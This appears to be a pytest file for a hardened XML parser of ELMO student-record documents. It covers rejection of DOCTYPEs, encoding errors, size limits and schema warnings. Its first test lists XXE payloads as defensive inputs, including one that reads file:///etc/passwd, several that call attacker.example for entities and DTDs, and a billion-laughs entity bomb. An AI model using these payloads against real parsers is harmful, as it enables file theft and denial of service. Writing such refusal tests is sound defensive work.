"""The hardened parser refuses DTDs and broken documents with clear reasons; schema problems are warnings."""

from __future__ import annotations

import gzip
import threading
import time
from base64 import b64decode

import pytest

from app.services.elmo import schema
from app.services.elmo.types import ElmoUnreadable
from app.services.elmo.xmlsafe import parse_document, parse_xml, schema_warnings
from tests.services.elmo.samples import V1, elmo, los, sample

DOC = elmo(los("Dyrkning", credits="10", grade="7"))


@pytest.mark.parametrize("data", [
    # XXE: a file of this computer, and a URL
    b'<?xml version="1.0"?><!DOCTYPE elmo [<!ENTITY e SYSTEM "file:///etc/passwd">]><elmo>&e;</elmo>',
    b'<!DOCTYPE elmo [<!ENTITY e SYSTEM "http://attacker.example/x">]><elmo>&e;</elmo>',
    # billion laughs
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10) for n in range(1, 10))
    + b"]><elmo>&lol9;</elmo>",
    # parameter entities and an external DTD
    b'<!DOCTYPE elmo [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><elmo/>',
    b'<!DOCTYPE elmo SYSTEM "http://attacker.example/elmo.dtd"><elmo/>',
    b"<!DOCTYPE elmo><elmo/>",
    b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- a comment --><?pi x?>\n<!DOCTYPE elmo><elmo/>',
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE elmo [<!ENTITY e "x">]><elmo>&e;</elmo>'.encode("utf-16"),
])
def test_any_doctype_is_refused(data: bytes) -> None:
    started = time.monotonic()
    with pytest.raises(ElmoUnreadable, match="DOCTYPE"):
        parse_xml(data)
    assert time.monotonic() - started < 1


def test_undeclared_entity_is_not_well_formed() -> None:
    with pytest.raises(ElmoUnreadable, match="Entity 'foo' not defined"):
        parse_xml(b"<elmo>&foo;</elmo>")


def test_not_well_formed_says_where() -> None:
    with pytest.raises(ElmoUnreadable) as caught:
        parse_xml(sample("official/elmo-schemas-example-de-v1.7-preview.xml"))
    assert caught.value.params["line"] == "167" and caught.value.params["column"] == "27"
    assert "Opening and ending tag mismatch" in caught.value.params["reason"]
    with pytest.raises(ElmoUnreadable, match=r"line 1, column 14"):
        parse_xml(b"<elmo><a></b></elmo>")


def test_latin1_bytes_in_a_utf8_document_are_explained() -> None:
    xml = gzip.decompress(b64decode(sample("dk/elmo-wl-signed-zipped-base64.txt")))
    with pytest.raises(ElmoUnreadable) as caught:
        parse_xml(xml)
    assert caught.value.params == {"encoding": "UTF-8", "line": "1", "column": "2113"}
    assert "not valid UTF-8" in caught.value.render()


def test_declared_latin1_is_read_as_latin1() -> None:
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><elmo><x>Høst</x></elmo>'.encode("iso-8859-1")
    assert parse_xml(data)[0].text == "Høst"


def test_unknown_encoding() -> None:
    with pytest.raises(ElmoUnreadable, match="not known"):
        parse_xml(b'<?xml version="1.0" encoding="x-klingon"?><elmo/>')


@pytest.mark.parametrize("data,words", [
    (b"", "empty"),
    (b"   \n", "empty"),
    (b"<html><body>Login</body></html>", 'root element is "html"'),
    (b'<imobility-tors-get-response xmlns="urn:ewp"/>', "imobility-tors-get-response"),
    (b"<elmo>" * 5, "not well-formed"),
    (b"<elmo>\x01</elmo>", "not well-formed"),
])
def test_not_an_elmo_document(data: bytes, words: str) -> None:
    with pytest.raises(ElmoUnreadable, match=words):
        parse_xml(data)


@pytest.mark.parametrize("root", ["<elmo/>", f'<elmo xmlns="{V1}"/>', '<x:elmo xmlns:x="urn:odd"/>',
                                  '<elmo xmlns="http://purl.org/net/elmo"/>'])
def test_elmo_in_any_namespace(root: str) -> None:
    assert parse_xml(root.encode()).tag.endswith("elmo")


def test_size_limit_and_bytes_only() -> None:
    with pytest.raises(ElmoUnreadable, match="too large"):
        parse_xml(DOC, max_bytes=50)
    with pytest.raises(TypeError):
        parse_xml(DOC.decode())  # type: ignore[arg-type]
    with pytest.raises(ElmoUnreadable, match="not well-formed"):
        parse_document(b"<a>" * 300 + b"</a>" * 300)  # deeper than libxml2's limit without huge_tree


# -- schema ----------------------------------------------------------------------------------------------------------
def test_schema_warnings_of_the_danish_file() -> None:
    found = schema_warnings(parse_xml(sample("dk/elmo-tomcat-signed.xml")))
    texts = [problem.render() for problem in found]
    assert texts[0].startswith("ELMO 1.7 schema, line 1: Element 'issuer': Missing child element")
    assert any("The value '-' is not an element of the set {'Bachelor', 'Master', 'PhD'}" in text for text in texts)
    assert not any("{https://" in text for text in texts)  # namespaces left out of the messages


def test_schema_warnings_of_a_valid_and_a_badly_ordered_file() -> None:
    assert schema_warnings(parse_xml(sample("official/elmo-schemas-example-v1.7.0.xml"))) == ()
    norwegian = parse_xml(b64decode(sample("no/uio-test-2023-sampleElmo.b64")))
    assert [problem.params["line"] for problem in schema_warnings(norwegian)] == ["133"]


def test_elmo_2_is_checked_against_the_2_0_schema() -> None:
    learner = "<learner><givenNames>A</givenNames><familyName>B</familyName><alternativeName/>" \
              "<dateOfBirth>2000-01-01</dateOfBirth></learner>"
    found = schema_warnings(parse_xml(elmo("", learner=learner)))
    assert all(problem.params["version"] == "2.0" for problem in found)


def test_at_most_ten_schema_problems_and_a_count() -> None:
    body = "".join(los(f"Course {n}", credits="1", grade="A", extra="<credit><level>-</level></credit>")
                   for n in range(30))
    found = schema_warnings(parse_xml(elmo(body)))
    assert len(found) == 11
    assert found[-1].render().startswith("… and ") and int(found[-1].params["count"]) >= 20


def test_layouts_without_a_schema_get_one_note() -> None:
    found = schema_warnings(parse_xml(sample("legacy-purl/no-Example-elmo-Norway.xml")))
    assert len(found) == 1 and "http://purl.org/net/elmo" in found[0].render()


def test_schema_compiled_once_and_safe_across_threads() -> None:
    schema.compiled_schema.cache_clear()
    roots = [parse_xml(sample("dk/elmo-tomcat-signed.xml")) for _ in range(4)]
    results: list[tuple] = []
    threads = [threading.Thread(target=lambda root=root: results.append(schema_warnings(root))) for root in roots]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len({result for result in results}) == 1 and len(results) == 4
    assert schema.compiled_schema.cache_info().currsize == 1


def test_a_missing_schema_bundle_is_a_warning(monkeypatch, tmp_path) -> None:
    schema.compiled_schema.cache_clear()
    monkeypatch.setattr(schema, "resources_dir", lambda: tmp_path)
    try:
        [problem] = schema_warnings(parse_xml(DOC))
        assert "missing from this installation" in problem.render()
    finally:
        schema.compiled_schema.cache_clear()
